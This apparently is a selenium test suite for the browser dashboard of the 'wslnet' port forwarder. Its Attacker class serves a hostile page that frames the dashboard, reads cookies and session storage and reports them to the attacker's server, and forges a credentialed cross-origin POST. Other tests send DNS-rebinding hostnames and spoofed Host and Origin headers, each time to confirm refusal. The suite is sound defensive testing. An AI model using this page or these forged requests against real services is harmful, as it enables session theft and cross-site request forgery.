"""The dashboard in a real browser: headless Chromium driven by selenium against a
forwarder's API on loopback, with the attacker in the picture: another server on another
127.0.0.1 port that the browser visits, a page that frames the dashboard, a name rebound
to 127.0.0.1. Writes the README's screenshot (docs/dashboard.png) when
WSLNET_SCREENSHOT=1."""

from __future__ import annotations

import http.server
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import LAB_REQUIRED
from tests.helpers import (
    ROOT,
    ServerThread,
    assert_schema,
    echo,
    echo_round_trip,
    forwarder,
    free_port,
)
from tests.lab import Lab

pytestmark = pytest.mark.lab
TOKEN = "dashboard-test-token"
REBOUND = ("127.0.0.1.evil.example", "127.evil.example", "[::1].evil.example",
           "localhost.evil.example", "evil.example")  # fmt: skip


def chromium(*extra: str) -> Any:
    if shutil.which("chromium") is None or shutil.which("chromedriver") is None:
        if LAB_REQUIRED:
            pytest.fail(
                "chromium and chromium-driver are missing (tests/system-deps.sh installs them)"
            )
        pytest.skip("no chromium here (tests/system-deps.sh installs it as root)")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = shutil.which("chromium") or ""
    for flag in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                 "--no-first-run", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--window-size=1100,1000", "--disable-dev-shm-usage",
                 # The rebinding attacker's names, answered here: no DNS query leaves.
                 "--host-resolver-rules=MAP *.evil.example 127.0.0.1, MAP evil.example 127.0.0.1",
                 *extra):  # fmt: skip
        options.add_argument(flag)
    return webdriver.Chrome(options=options, service=Service(shutil.which("chromedriver")))


def request(
    port: int, path: str, method: str = "GET", headers: dict[str, str] | None = None,
    body: bytes | None = None, bearer: bool = True,
) -> tuple[int, dict[str, str], bytes]:  # fmt: skip
    sent = dict(headers or {})
    if bearer:
        sent["Authorization"] = f"Bearer {TOKEN}"
    req = urllib.request.Request(
        f"http://127.0.0.1:{port}{path}", method=method, headers=sent, data=body
    )
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status, dict(resp.headers), resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read()


def api(port: int, path: str, method: str = "GET") -> Any:
    status, _, body = request(port, path, method)
    assert status < 300, (status, body)
    return json.loads(body)


def wait_for(check: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "the page did not show it in time"
        time.sleep(0.1)


def text(browser: Any, element_id: str = "") -> str:
    from selenium.webdriver.common.by import By

    if not element_id:
        return str(browser.find_element(By.TAG_NAME, "body").text)
    return str(browser.find_element(By.ID, element_id).text)


def log_in(browser: Any, api_port: int) -> None:
    browser.get(api(api_port, "/v1/login-link", "POST")["url"])
    wait_for(lambda: "Forwards" in text(browser))


@pytest.fixture
def browser() -> Iterator[Any]:
    driver = chromium()
    try:
        yield driver
    finally:
        driver.quit()


class Attacker:
    """Another server on 127.0.0.1 that the user's browser visits: it records every
    request it gets, and its page frames the dashboard and forges a call to the API."""

    def __init__(self, api_port: int) -> None:
        self.requests: list[dict[str, str]] = []
        self.reports: list[Any] = []
        page = f"""<!doctype html><title>evil</title>
<iframe id="frame" src="http://127.0.0.1:{api_port}/" width="600" height="300"></iframe>
<script>
const report = (v) => fetch("/report", {{method: "POST", body: JSON.stringify(v)}});
report({{cookie: document.cookie, storage: Object.keys(sessionStorage)}});
fetch("http://127.0.0.1:{api_port}/v1/forwards", {{method: "POST", mode: "no-cors",
  credentials: "include", body: "127.0.0.1:0=127.0.0.1:9"}})
  .finally(() => report("forged"));
</script>""".encode()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.requests.append(dict(self.headers))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                outer.requests.append(dict(self.headers))
                length = int(self.headers.get("Content-Length") or 0)
                outer.reports.append(json.loads(self.rfile.read(length)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def rule_count(api_port: int) -> int:
    return len(api(api_port, "/v1/status")["rules"])


def test_login_through_the_link_leaves_no_code_in_the_address_bar_and_no_cookie(
    browser: Any,
) -> None:
    api_port = free_port()
    with forwarder("127.0.0.1:0=127.0.0.1:9", "--api", str(api_port),
                   env={"WSLNET_API_TOKEN": TOKEN}):  # fmt: skip
        link = api(api_port, "/v1/login-link", "POST")["url"]
        assert "#code=" in link  # in the fragment: sent to no server
        browser.get(link)
        wait_for(lambda: "127.0.0.1:9" in text(browser, "rules"))
        assert browser.current_url == f"http://127.0.0.1:{api_port}/"
        assert browser.get_cookies() == []
        browser.refresh()  # the session outlives a reload (sessionStorage)
        wait_for(lambda: "127.0.0.1:9" in text(browser, "rules"))
        browser.execute_script("sessionStorage.clear()")
        browser.get(link)  # the same link again: spent
        wait_for(lambda: "used already" in text(browser, "login"))
        assert "127.0.0.1:9" not in text(browser)


def test_a_page_on_another_loopback_port_gets_no_credential_and_its_forgery_is_refused(
    browser: Any,
) -> None:
    api_port = free_port()
    attacker = Attacker(api_port)
    try:
        with forwarder("127.0.0.1:0=127.0.0.1:9", "--api", str(api_port),
                       env={"WSLNET_API_TOKEN": TOKEN}):  # fmt: skip
            log_in(browser, api_port)
            browser.get(f"http://127.0.0.1:{attacker.port}/")
            wait_for(lambda: "forged" in attacker.reports)
            assert attacker.reports[0] == {"cookie": "", "storage": []}
            for headers in attacker.requests:
                assert "Cookie" not in headers and "X-Wslnet-Session" not in headers
            assert rule_count(api_port) == 1  # the forged POST added nothing
            # Replayed by hand with whatever the attacker holds, and a forged Origin.
            forged = {k: v for k, v in attacker.requests[0].items() if k != "Host"}
            forged["Origin"] = f"http://127.0.0.1:{api_port}"
            status, _, _ = request(api_port, "/v1/forwards", "POST", forged,
                                   b"127.0.0.1:0=127.0.0.1:9", bearer=False)  # fmt: skip
            assert status == 401 and rule_count(api_port) == 1
            # Back on the dashboard's own origin, the session is still there.
            browser.get(f"http://127.0.0.1:{api_port}/")
            wait_for(lambda: "127.0.0.1:9" in text(browser, "rules"))
    finally:
        attacker.close()


def test_the_dashboard_in_a_frame_is_refused(browser: Any) -> None:
    from selenium.webdriver.common.by import By

    api_port = free_port()
    attacker = Attacker(api_port)
    try:
        with forwarder("--api", str(api_port), env={"WSLNET_API_TOKEN": TOKEN}):
            browser.get(f"http://127.0.0.1:{attacker.port}/")
            wait_for(lambda: "forged" in attacker.reports)
            browser.switch_to.frame(browser.find_element(By.ID, "frame"))
            assert "wslnet forward" not in browser.page_source
            assert browser.find_elements(By.ID, "app") == []
    finally:
        attacker.close()


def test_a_rebound_host_is_refused_for_every_prefix_trick(browser: Any) -> None:
    api_port = free_port()
    with forwarder("--api", str(api_port), env={"WSLNET_API_TOKEN": TOKEN}):
        for name in ("127.0.0.1.evil.example", "127.evil.example"):  # a real rebinding
            browser.get(f"http://{name}:{api_port}/")
            assert "DNS rebinding" in text(browser), name
        for name in REBOUND:
            for host in (name, f"{name}:{api_port}"):
                for method, path in (("GET", "/"), ("GET", "/v1/status"),
                                     ("POST", "/v1/session")):  # fmt: skip
                    status, headers, _ = request(
                        api_port, path, method, {"Host": host}, b"{}", bearer=False
                    )
                    assert status == 403, (host, path)
        for host in (f"127.0.0.1:{api_port}", "127.0.0.1", f"localhost:{api_port}"):
            assert request(api_port, "/", "GET", {"Host": host}, bearer=False)[0] == 200
        # Every answer, refused or not, carries the headers.
        for path in ("/", "/v1/status", "/nothing", "/favicon.ico"):
            status, headers, _ = request(api_port, path, bearer=path == "/nothing")
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
            assert headers["X-Content-Type-Options"] == "nosniff", path
            assert headers["Cache-Control"] == "no-store", path
        status, headers, _ = request(api_port, "/favicon.ico", bearer=False)
        assert status == 200 and headers["Content-Type"].startswith("image/svg+xml")


def test_logging_into_a_second_forwarder_keeps_the_first_logged_in(browser: Any) -> None:
    a, b = free_port(), free_port()
    env = {"WSLNET_API_TOKEN": TOKEN}
    with (
        forwarder("127.0.0.1:0=127.0.0.1:9", "--api", str(a), env=env),
        forwarder("127.0.0.1:0=127.0.0.1:19", "--api", str(b), env=env),
    ):
        log_in(browser, a)
        log_in(browser, b)
        wait_for(lambda: "127.0.0.1:19" in text(browser, "rules"))
        browser.get(f"http://127.0.0.1:{a}/")
        wait_for(lambda: "127.0.0.1:9" in text(browser, "rules"))


def test_the_link_works_once_and_is_on_no_command_line(browser: Any, tmp_path: Path) -> None:
    fake = tmp_path / "browser"
    seen = tmp_path / "argv"
    fake.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {seen}\n')
    fake.chmod(0o755)
    env = {**os.environ, "XDG_RUNTIME_DIR": str(tmp_path), "BROWSER": str(fake)}
    env.pop("WSLNET_API_TOKEN", None)
    with forwarder("127.0.0.1:0=127.0.0.1:9", "--api", str(free_port()), env=env):
        cli = subprocess.Popen(
            [sys.executable, "-m", "wslnet", "dashboard"], env=env, text=True,
            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        )  # fmt: skip
        lines: set[bytes] = set()
        while cli.poll() is None:  # every command line on the machine while it runs
            for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    lines.add(cmdline.read_bytes())
                except OSError:
                    pass
            time.sleep(0.01)
        out, err = cli.communicate(timeout=20)
        assert cli.returncode == 0, err
        opened = Path(seen.read_text().strip().removeprefix("file://"))
        assert opened.parent == tmp_path / "wslnet"
        assert stat.S_IMODE(opened.stat().st_mode) == 0o600
        code = opened.read_text().split("#code=")[1].split('"')[0]
        assert not [line for line in lines if code.encode() in line]
        assert code not in out + err
        browser.get(opened.as_uri())  # the browser follows the redirect file, and logs in
        wait_for(lambda: "127.0.0.1:9" in text(browser, "rules"))
        browser.execute_script("sessionStorage.clear()")
        browser.get(opened.as_uri())
        wait_for(lambda: "used already" in text(browser, "login"))


def sink_server(servers: ServerThread) -> int:
    async def sink(reader: Any, writer: Any) -> None:
        while await reader.read(1 << 16):
            pass
        writer.close()

    return servers.serve(sink)


def paced_send(port: int, rate: int, seconds: float) -> None:
    """`rate` bytes a second for `seconds`, in tenths, on the clock (loopback only)."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        start = time.monotonic()
        for i in range(int(seconds * 10)):
            s.sendall(b"x" * (rate // 10))
            time.sleep(max(0.0, start + (i + 1) / 10 - time.monotonic()))


def test_a_steady_transfer_reads_as_a_steady_rate_and_the_history_survives_a_reload(
    browser: Any,
) -> None:
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By

    servers = ServerThread()
    try:
        target = servers.serve(echo)
        sink = sink_server(servers)
        api_port = free_port()
        with forwarder(f"127.0.0.1:0=127.0.0.1:{sink}", f"127.0.0.1:0=127.0.0.1:{target}",
                       "--api", str(api_port), env={"WSLNET_API_TOKEN": TOKEN}) as fwd:  # fmt: skip
            log_in(browser, api_port)
            sender = threading.Thread(target=paced_send, args=(fwd.ports[0], 300_000, 10.0))
            sender.start()
            time.sleep(7.5)  # five full one-second buckets of the steady part
            rate = float(browser.find_element(By.CSS_SELECTOR, 'tr[data-rule="1"] .rate')
                         .get_attribute("data-rate"))  # fmt: skip
            assert 240_000 <= rate <= 360_000, rate
            shown = browser.find_element(By.CSS_SELECTOR, 'tr[data-rule="1"] .rate').text
            assert shown.endswith("KB/s") and 240 <= float(shown.split()[0]) <= 360, shown
            sender.join(15)
            echo_round_trip(fwd.ports[1]).close()

            browser.refresh()  # the history comes from the server, not the tab
            wait_for(lambda: "peak" in text(browser, "legend"))
            item = browser.find_element(By.CSS_SELECTOR, '#legend li[data-rule="1"]')
            assert 240_000 <= float(item.get_attribute("data-peak")) <= 360_000
            assert float(item.get_attribute("data-total")) >= 2_500_000
            canvas = browser.find_element(By.ID, "graph")
            ActionChains(browser).move_to_element_with_offset(
                canvas, canvas.size["width"] // 2 - 20, 0
            ).perform()  # near the right edge: the last seconds, exact numbers
            wait_for(lambda: "#1 " in text(browser, "tip"))
            assert " B up" in text(browser, "tip")
            wait_for(lambda: "up," in text(browser, "rules"))  # the target answered
            assert_schema(api(api_port, "/v1/history"), "history")
            assert_schema(api(api_port, "/v1/status"), "status")
            if os.environ.get("WSLNET_SCREENSHOT") == "1":
                browser.save_screenshot(str(ROOT / "docs" / "dashboard.png"))
    finally:
        servers.close()


def test_controls_confirm_before_remove_fit_480px_and_follow_a_dark_scheme(
    browser: Any,
) -> None:
    from selenium.webdriver.common.by import By

    api_port = free_port()
    with forwarder("127.0.0.1:0=127.0.0.1:9", "127.0.0.1:0=127.0.0.1:19", "--api",
                   str(api_port), env={"WSLNET_API_TOKEN": TOKEN}):  # fmt: skip
        log_in(browser, api_port)
        wait_for(lambda: "127.0.0.1:19" in text(browser, "rules"))
        link = browser.find_element(By.CSS_SELECTOR, 'tr[data-rule="1"] a')
        port = api(api_port, "/v1/status")["rules"][0]["listen"][0].rsplit(":", 1)[1]
        assert (link.text, link.get_attribute("href")) == ("open", f"http://127.0.0.1:{port}/")
        assert not browser.find_element(By.CSS_SELECTOR, "th.resolved").is_displayed()
        remove = 'button[data-rule="2"]'
        browser.find_element(By.CSS_SELECTOR, remove).click()
        browser.switch_to.alert.dismiss()
        time.sleep(1.5)  # a refresh or two: nothing removed
        assert rule_count(api_port) == 2
        browser.find_element(By.CSS_SELECTOR, remove).click()
        browser.switch_to.alert.accept()
        wait_for(lambda: rule_count(api_port) == 1)

        browser.set_window_size(480, 900)
        wide = "return [document.documentElement.scrollWidth, window.innerWidth]"
        scroll, inner = browser.execute_script(wide)
        assert scroll <= inner
        browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {
            "features": [{"name": "prefers-color-scheme", "value": "dark"}]})  # fmt: skip
        bg = browser.execute_script("return getComputedStyle(document.body).backgroundColor")
        assert bg == "rgb(13, 17, 23)"


def test_the_stopped_banner_disables_every_control(browser: Any) -> None:
    from selenium.webdriver.common.by import By

    api_port = free_port()
    with forwarder("127.0.0.1:0=127.0.0.1:9", "--api", str(api_port),
                   env={"WSLNET_API_TOKEN": TOKEN}) as fwd:  # fmt: skip
        log_in(browser, api_port)
        assert not browser.find_element(By.ID, "stopped").is_displayed()
        fwd.stop()
        wait_for(lambda: browser.find_element(By.ID, "stopped").is_displayed())
        assert "has stopped" in text(browser, "stopped")
        controls = browser.find_elements(By.CSS_SELECTOR, "button, input")
        assert len(controls) >= 4 and all(not c.is_enabled() for c in controls)


def test_the_listener_panel_forwards_a_wsl_port_with_one_click(
    lab: Lab, servers: ServerThread, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By

    from tests.helpers import listening_socket

    fake_wsl = lab.fake_wsl_exe(tmp_path)
    with lab.inside(lab.wsl):
        sock = listening_socket("0.0.0.0")  # a WSL listener no rule forwards yet
    port = servers.serve(echo, sock)
    api_port = free_port()
    env = {**fake_wsl, "WSLNET_API_TOKEN": TOKEN}
    # The browser, its driver and this thread's sockets live in `win`, as on Windows.
    with lab.inside(lab.win), forwarder("--api", str(api_port), prefix=lab.prefix(lab.win),
                                        env=env):  # fmt: skip
        driver = chromium()
        try:
            log_in(driver, api_port)
            button = f'#listeners button[data-port="{port}"]'
            wait_for(lambda: bool(driver.find_elements(By.CSS_SELECTOR, button)))
            assert_schema(api(api_port, "/v1/wsl-listeners"), "unforwarded")
            driver.find_element(By.CSS_SELECTOR, button).click()
            wait_for(lambda: rule_count(api_port) == 1)
            with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                s.sendall(b"through the panel")
                assert s.recv(100) == b"through the panel"
            wait_for(lambda: not driver.find_elements(By.CSS_SELECTOR, button))
        finally:
            driver.quit()


def test_wslnet_dashboard_no_browser_prints_a_working_link_and_says_when_none_runs(
    tmp_path: Path,
) -> None:
    env = {**os.environ, "XDG_RUNTIME_DIR": str(tmp_path)}
    env.pop("WSLNET_API_TOKEN", None)  # the forwarder makes its token file; the CLI reads it
    cmd = [sys.executable, "-m", "wslnet", "dashboard", "--no-browser"]
    with forwarder("--api", str(free_port()), env=env):
        res = subprocess.run(cmd, capture_output=True, text=True, timeout=20, env=env)
        assert res.returncode == 0, res.stderr
        base, code = res.stdout.strip().split("/#code=")
        status, _, body = request(int(base.rsplit(":", 1)[1]), "/v1/session", "POST",
                                  {"Content-Type": "application/json"},
                                  json.dumps({"code": code}).encode(), bearer=False)  # fmt: skip
        assert status == 200 and json.loads(body)["header"] == "X-Wslnet-Session"
    res = subprocess.run(cmd, capture_output=True, text=True, timeout=20, env=env)
    assert res.returncode == 1
    assert res.stderr.startswith("wslnet: no forwarder is running"), res.stderr
    assert len(res.stderr.splitlines()) == 1
